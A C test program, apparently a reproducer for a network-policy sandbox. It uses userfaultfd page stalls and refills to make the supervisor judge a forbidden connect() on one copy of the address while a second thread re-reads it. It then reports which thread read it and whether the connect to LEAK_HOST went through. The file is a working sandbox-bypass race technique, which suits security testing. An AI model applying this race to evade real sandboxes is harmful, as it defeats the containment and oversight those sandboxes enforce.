/* Makes the supervisor judge a connect twice and ends the program in between: the reserve
 * receiver's verdict is dropped when it hands the call to a thread of its own, which reads
 * the caller's memory again from the start.
 *
 * One thread's connect takes its address from a page registered with userfaultfd that is
 * never filled (P1): its receiver stalls, so the next call is taken by the reserve. Another
 * thread then makes a blocking connect to LEAK (forbidden; under --on-leak log or socksify
 * the supervisor goes on with it, a call that waits). Its sockaddr straddles two more
 * registered pages (A, B): the first copy of the address faults on A (filled), then on B;
 * while that copy holds A, A is dropped again (MADV_DONTNEED) and B filled, so the first copy
 * completes and the next copy of the same address faults on A again. That second reader is
 * the thread the call was handed to; the program then exits at once, before it reads.
 *
 * usage: r28_redo LEAK_HOST LEAK_PORT
 * Prints "uffd: ready", one "read: page=A|B tid=N" line per fault on the address, then
 * "second copy: tid=N (first tid=M), exiting" or "leak: returned rc=N errno=N".
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static struct sockaddr_in leak_addr;
static char *region;
static long psize;
static atomic_int leak_done, leak_rc, leak_errno;

static void sleep_ms(long ms) {
    struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};
    while (nanosleep(&ts, &ts) != 0 && errno == EINTR) {
    }
}

static void *stall(void *arg) {
    (void)arg;
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd >= 0) connect(fd, (struct sockaddr *)region, sizeof(struct sockaddr_in));
    return NULL;
}

static void *leak(void *arg) {
    (void)arg;
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr *at = (struct sockaddr *)(region + 2 * psize - 8);
    int rc = connect(fd, at, sizeof(struct sockaddr_in));
    atomic_store(&leak_errno, rc == 0 ? 0 : errno);
    atomic_store(&leak_rc, rc);
    atomic_store(&leak_done, 1);
    if (rc == 0) write(fd, "r28-redo", 8);
    return NULL;
}

static int fill(int uffd, char *dst, const char *bytes, size_t off, size_t len) {
    static char *src;
    if (!src) src = aligned_alloc((size_t)psize, (size_t)psize);
    memset(src, 0, (size_t)psize);
    memcpy(src + off, bytes, len);
    struct uffdio_copy copy = {.dst = (unsigned long)dst, .src = (unsigned long)src, .len = (unsigned long)psize};
    return ioctl(uffd, UFFDIO_COPY, &copy);
}

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: %s LEAK_HOST LEAK_PORT\n", argv[0]);
        return 2;
    }
    memset(&leak_addr, 0, sizeof leak_addr);
    leak_addr.sin_family = AF_INET;
    leak_addr.sin_port = htons((unsigned short)atoi(argv[2]));
    if (inet_pton(AF_INET, argv[1], &leak_addr.sin_addr) != 1) return 2;
    psize = sysconf(_SC_PAGESIZE);
    int uffd = (int)syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK);
    struct uffdio_api api = {.api = UFFD_API, .features = UFFD_FEATURE_THREAD_ID};
    if (uffd < 0 || ioctl(uffd, UFFDIO_API, &api) != 0) {
        printf("uffd: unavailable errno=%d\n", errno);
        return 0;
    }
    /* P1 (the stall), A, B. */
    region = mmap(NULL, 3 * psize, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    struct uffdio_register reg = {.range = {.start = (unsigned long)region, .len = 3 * psize},
                                  .mode = UFFDIO_REGISTER_MODE_MISSING};
    if (region == MAP_FAILED || ioctl(uffd, UFFDIO_REGISTER, &reg) != 0) {
        printf("uffd: unavailable errno=%d\n", errno);
        return 0;
    }
    char *page_a = region + psize, *page_b = region + 2 * psize;
    printf("uffd: ready\n");
    fflush(stdout);
    pthread_t t;
    if (pthread_create(&t, NULL, stall, NULL) != 0) return 2;
    sleep_ms(200);
    if (pthread_create(&t, NULL, leak, NULL) != 0) return 2;
    const char *raw = (const char *)&leak_addr;
    int reads_a = 0;
    unsigned first_tid = 0;
    for (int waited = 0; waited < 15000;) {
        if (atomic_load(&leak_done)) {
            printf("leak: returned rc=%d errno=%d\n", atomic_load(&leak_rc), atomic_load(&leak_errno));
            fflush(stdout);
            sleep_ms(300);
            _exit(0);
        }
        struct pollfd pfd = {.fd = uffd, .events = POLLIN};
        if (poll(&pfd, 1, 10) <= 0) {
            waited += 10;
            continue;
        }
        struct uffd_msg msg;
        if (read(uffd, &msg, sizeof msg) != sizeof msg || msg.event != UFFD_EVENT_PAGEFAULT) continue;
        char *at = (char *)(uintptr_t)(msg.arg.pagefault.address & ~(uint64_t)(psize - 1));
        unsigned tid = msg.arg.pagefault.feat.ptid;
        if (at == region) continue; /* the stall: never filled */
        printf("read: page=%s tid=%u\n", at == page_a ? "A" : "B", tid);
        fflush(stdout);
        if (at == page_a) {
            if (++reads_a == 2) {
                printf("second copy: tid=%u (first tid=%u), exiting\n", tid, first_tid);
                fflush(stdout);
                _exit(0);
            }
            first_tid = tid;
            fill(uffd, page_a, raw, (size_t)psize - 8, 8);
        } else {
            /* The first copy holds A (pinned, or copied already): drop it for the next one. */
            madvise(page_a, (size_t)psize, MADV_DONTNEED);
            fill(uffd, page_b, raw + 8, 0, 8);
        }
    }
    printf("timeout\n");
    fflush(stdout);
    _exit(0);
}
